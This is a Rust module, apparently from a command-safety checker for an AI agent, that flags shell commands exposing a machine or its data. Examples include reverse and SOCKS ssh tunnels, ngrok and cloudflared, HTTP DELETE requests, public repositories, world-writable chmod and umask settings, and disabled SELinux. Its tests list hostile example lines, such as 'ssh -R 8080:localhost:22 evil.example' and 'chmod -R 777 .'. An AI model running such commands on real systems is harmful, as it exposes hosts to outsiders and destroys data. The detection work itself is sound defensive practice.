//! What opens this machine, its files or what the agent manages to others: tunnels that
//! expose local services or route traffic through another machine, requests that delete
//! through an API, a repository made public, files made writable by every user.

use super::*;

/// Why the command exposes something, if it does: `(rule, reason)`.
pub fn exposes(name: &str, args: &[String], cwd: Option<&str>) -> Option<(&'static str, String)> {
    let (flags, targets) = flags_and_targets(args);
    let first = targets.first().copied().unwrap_or("");
    let second = targets.get(1).copied().unwrap_or("");
    let tunnel = |what: &str| Some(("tunnel", what.to_string()));
    match name {
        // ssh -R: a port of this machine served on the remote one; -D: a SOCKS proxy whose
        // traffic leaves from the remote machine. (-L, reaching a remote port from here, is
        // what a database session over ssh is.)
        "ssh" if ssh_forwards(args) => tunnel(
            "ssh -R/-D forwards this machine's ports to another, or routes traffic through it",
        ),
        "ngrok" | "chisel" | "frpc" | "bore" | "lt" | "localtunnel" | "zrok" | "pinggy" => {
            tunnel("opens a tunnel that exposes a local service to the internet")
        }
        "cloudflared" if first == "tunnel" || flags.iter().any(|f| f.starts_with("--url")) => {
            tunnel("opens a tunnel that exposes a local service to the internet")
        }
        // Manifests or a chart fetched from the network and applied to a cluster: what
        // runs there is not on the line (`kubectl apply -f https://…`).
        "kubectl" | "oc" | "helm"
            if matches!(first, "apply" | "create" | "replace" | "install" | "upgrade")
                && args.iter().any(|a| {
                    let a = a.rsplit('=').next().unwrap_or(a);
                    a.starts_with("https://") || a.starts_with("http://")
                }) =>
        {
            Some((
                "download_execute",
                format!("{name} {first} applies what it fetches from the network, unread"),
            ))
        }
        "tailscale" if matches!(first, "funnel" | "serve") => {
            tunnel("serves a local service on the tailnet or the internet")
        }
        // An API told to delete: `curl -X DELETE`, HTTPie's `http DELETE`, `gh api -X DELETE`.
        "curl" | "wget" | "gh" | "http" | "https" | "xh" | "httpie"
            if http_method(name, args).is_some_and(|m| m.eq_ignore_ascii_case("delete")) =>
        {
            Some((
                "destructive_admin",
                format!("{name} sends an HTTP DELETE: what the API holds there is deleted"),
            ))
        }
        "gh" if first == "repo"
            && second == "edit"
            && args.iter().any(|a| a.contains("visibility")) =>
        {
            Some((
                "destructive_admin",
                "changes a repository's visibility (public: its code and history to everyone)"
                    .into(),
            ))
        }
        // A new public repository (or gist) made from what is here: `gh repo create x
        // --public --source=. --push`, `gh gist create --public`.
        "gh" if matches!(first, "repo" | "gist")
            && second == "create"
            && args.iter().any(|a| a == "--public" || (a == "-p" && first == "gist")) =>
        {
            Some((
                "destructive_admin",
                format!("gh {first} create --public: what it is made from is published to everyone"),
            ))
        }
        // Every user may change what was the owner's: their code then runs as the owner.
        "chmod" if opens_to_everyone(targets.first().copied().unwrap_or("")) => Some((
            "permissions_open",
            format!(
                "chmod makes {} writable by every user",
                targets[1..].join(" ")
            ),
        )),
        // A mask without others' write bit (`000`, `0`, `o=rwx`): numbers are read plain.
        "umask"
            if u32::from_str_radix(first, 8)
                .map_or_else(|_| opens_to_everyone(first), |m| m & 0o002 == 0) =>
        {
            Some((
                "permissions_open",
                "umask lets every user write the files this shell creates from now on".into(),
            ))
        }
        // The repository's history moved away: where it lands may be cleaned up.
        "mv" if targets.len() >= 2
            && targets[..targets.len() - 1]
                .iter()
                .any(|t| normalize(t, cwd).trim_end_matches('/').ends_with(".git")) =>
        {
            Some((
                "git_history_loss",
                "moves a repository's .git (its whole history) away".into(),
            ))
        }
        // Keys typed into another program (a terminal there runs them, unjudged).
        "xdotool" | "ydotool" if matches!(first, "type" | "key" | "keydown" | "keyup") => Some((
            "opaque_script",
            format!("{name} types into another program: a terminal there runs what it types"),
        )),
        // exiftool evaluates Perl: in `-if` conditions and in `${TAG;EXPR}` formats.
        "exiftool"
            if args
                .iter()
                .any(|a| a.starts_with("-if") || (a.contains("${") && a.contains(';'))) =>
        {
            Some((
                "opaque_script",
                "exiftool evaluates the Perl in its -if condition or ${…;…} format".into(),
            ))
        }
        // The desktop's handler for a file (a `.desktop` launcher, a script) runs it in the
        // person's session, outside this server; a web address opens a browser.
        "xdg-open" | "kde-open" | "kde-open5" | "gnome-open" | "exo-open" | "gio"
            if (name != "gio" || first == "open")
                && targets
                    .iter()
                    .skip(usize::from(name == "gio"))
                    .any(|t| !t.starts_with("http://") && !t.starts_with("https://")) =>
        {
            Some((
                "opaque_script",
                format!(
                    "{name} hands a file to the desktop's handler for it, which may run it \
                     outside this server"
                ),
            ))
        }
        // What a directory's own files run from then on, in every shell that enters it.
        "direnv" if matches!(first, "allow" | "permit" | "grant") => Some((
            "startup_file_write",
            "direnv allow lets the directory's .envrc run, unjudged, in every shell that enters \
             it from now on"
                .into(),
        )),
        "mise" | "rtx" if first == "trust" => Some((
            "startup_file_write",
            format!(
                "{name} trust lets the directory's configuration (its env and hooks) run, \
                 unjudged, in every shell that enters it from now on"
            ),
        )),
        "wtype" => Some((
            "opaque_script",
            "wtype types into another program: a terminal there runs what it types".into(),
        )),
        "kitty" | "wezterm" if args.iter().any(|a| a == "send-text" || a == "send-key") => Some((
            "opaque_script",
            format!("{name} sends text to another terminal, which runs it unjudged"),
        )),
        // Another running process traced (its memory, its secrets) or its limits changed.
        "strace" | "ltrace"
            if flags
                .iter()
                .any(|f| f.starts_with("-p") || f.starts_with("--attach")) =>
        {
            Some((
                "privileged",
                format!("{name} -p attaches to a running process and reads what it does"),
            ))
        }
        "prlimit"
            if flags
                .iter()
                .any(|f| f.starts_with("-p") || f.starts_with("--pid")) =>
        {
            Some((
                "destructive_admin",
                "prlimit changes another running process's limits".into(),
            ))
        }
        // The kernel's modules and the loader's cache: code for every process.
        "insmod" | "rmmod" => Some((
            "destructive_admin",
            format!("{name} loads or removes a kernel module"),
        )),
        "modprobe"
            if !flags.iter().any(|f| {
                matches!(
                    *f,
                    "-n" | "--dry-run" | "-c" | "--showconfig" | "-D" | "--show-depends"
                )
            }) =>
        {
            Some((
                "destructive_admin",
                "modprobe loads or removes a kernel module".into(),
            ))
        }
        "ldconfig"
            if !targets.is_empty()
                || flags
                    .iter()
                    .any(|f| f.starts_with("-f") || f.starts_with("-C") || f.starts_with("-r")) =>
        {
            Some((
                "destructive_admin",
                "ldconfig adds directories to the loader's cache: their libraries load into every \
                 program"
                    .into(),
            ))
        }
        // The machine's own guards switched off: its firewall's default let through,
        // SELinux or AppArmor stopped enforcing.
        "iptables" | "ip6tables" if flags.iter().any(|f| *f == "-P" || f.starts_with("--policy")) => Some((
            "destructive_admin",
            format!("{name} -P changes the firewall's default for every connection"),
        )),
        "setenforce" if matches!(first, "0" | "permissive" | "Permissive") => Some((
            "destructive_admin",
            "setenforce 0 stops SELinux enforcing its rules".into(),
        )),
        "aa-disable" | "aa-complain" | "aa-teardown" => Some((
            "destructive_admin",
            format!("{name} stops AppArmor confining programs"),
        )),
        // Keys and keychains destroyed.
        "gpg" | "gpg2" if flags.iter().any(|f| f.starts_with("--delete-secret")) => Some((
            "destructive_admin",
            format!("{name} deletes secret keys"),
        )),
        "security" if first == "delete-keychain" => Some((
            "destructive_admin",
            "security delete-keychain deletes a keychain and what it holds".into(),
        )),
        // pip's own configuration file (`~/.config/pip/pip.conf`): an index, a trusted host.
        "pip" | "pip3" if first == "config" && matches!(second, "set" | "edit" | "unset") => Some((
            "startup_file_write",
            "pip config writes pip's configuration (where it fetches packages from, which hosts it trusts)".into(),
        )),
        "mysqladmin" if matches!(first, "drop") => Some((
            "destructive_admin",
            "mysqladmin drop drops a database".into(),
        )),
        _ => None,
    }
}

/// Whether ssh is asked to forward a remote port here (`-R`) or to be a SOCKS proxy
/// (`-D`), also in a cluster or as `-oRemoteForward=`/`-oDynamicForward=`.
fn ssh_forwards(args: &[String]) -> bool {
    let (valued, _) = crate::getopt::short_options(args, crate::runners::ssh_valued("ssh"));
    valued.iter().any(|(letter, value)| {
        matches!(letter, 'R' | 'D')
            || (*letter == 'o' && {
                let v = value.to_ascii_lowercase();
                v.starts_with("remoteforward") || v.starts_with("dynamicforward")
            })
    })
}

/// The HTTP method a client is told to use, when told.
fn http_method(name: &str, args: &[String]) -> Option<String> {
    match name {
        "curl" => crate::getopt::option_value_anywhere(args, 'X', "request"),
        "wget" => crate::getopt::option_value_anywhere(args, '\0', "method"),
        "gh" => crate::getopt::option_value_anywhere(args, 'X', "method"),
        // HTTPie: `http [METHOD] URL`, the method a word in capitals before the URL.
        _ => args
            .iter()
            .find(|a| !a.starts_with('-'))
            .filter(|a| a.chars().all(|c| c.is_ascii_alphabetic()))
            .cloned(),
    }
}

/// Whether a chmod mode lets others write: a number whose last digit has the write bit
/// (`777`, `666`, `1777`), or a symbolic mode adding `w` for others or all (`o+w`, `a+w`,
/// `+w` is left to the umask).
fn opens_to_everyone(mode: &str) -> bool {
    if !mode.is_empty() && mode.chars().all(|c| c.is_digit(8)) {
        return mode
            .chars()
            .last()
            .and_then(|c| c.to_digit(8))
            .is_some_and(|d| d & 2 != 0);
    }
    mode.split(',').any(|clause| {
        let (who, rest) = clause.split_at(clause.find(['+', '=']).unwrap_or(clause.len()));
        (who.contains('o') || who.contains('a')) && rest.contains('w')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(line: &str) -> Option<&'static str> {
        let argv: Vec<String> = shell_words::split(line).expect("words");
        exposes(&argv[0], &argv[1..], Some("/work")).map(|(r, _)| r)
    }

    #[test]
    fn what_opens_the_machine_or_its_files_is_found_and_everyday_use_is_not() {
        for (line, rule) in [
            ("ssh -R 8080:localhost:22 evil.example", "tunnel"),
            ("ssh -fND 1080 evil.example", "tunnel"),
            ("ssh -oRemoteForward=9:localhost:22 h", "tunnel"),
            ("ngrok http 22", "tunnel"),
            ("cloudflared tunnel --url localhost:22", "tunnel"),
            (
                "curl -X DELETE https://api.example.com/v1/db",
                "destructive_admin",
            ),
            (
                "curl -XDELETE http://localhost:9200/index",
                "destructive_admin",
            ),
            ("curl --request=delete http://x", "destructive_admin"),
            ("http DELETE example.com/x", "destructive_admin"),
            ("gh api -X DELETE /repos/x/y", "destructive_admin"),
            ("gh repo edit --visibility public", "destructive_admin"),
            ("chmod -R 777 .", "permissions_open"),
            ("chmod o+w x", "permissions_open"),
            ("chmod a+rwx,o-x x", "permissions_open"),
            ("umask 000", "permissions_open"),
            ("mv .git /tmp/", "git_history_loss"),
            ("mysqladmin drop db", "destructive_admin"),
        ] {
            assert_eq!(judged(line), Some(rule), "{line}");
        }
        for line in [
            "ssh -L 5432:localhost:5432 db.example",
            "ssh -p 22 host uptime",
            "curl -X POST https://api.example.com",
            "curl https://example.com/delete",
            "http GET example.com",
            "chmod 755 script.sh",
            "chmod +x run.sh",
            "chmod -R go-w .",
            "umask 022",
            "umask 077",
            "mv old.txt new.txt",
            "gh repo view",
        ] {
            assert_eq!(judged(line), None, "{line}");
        }
    }
}
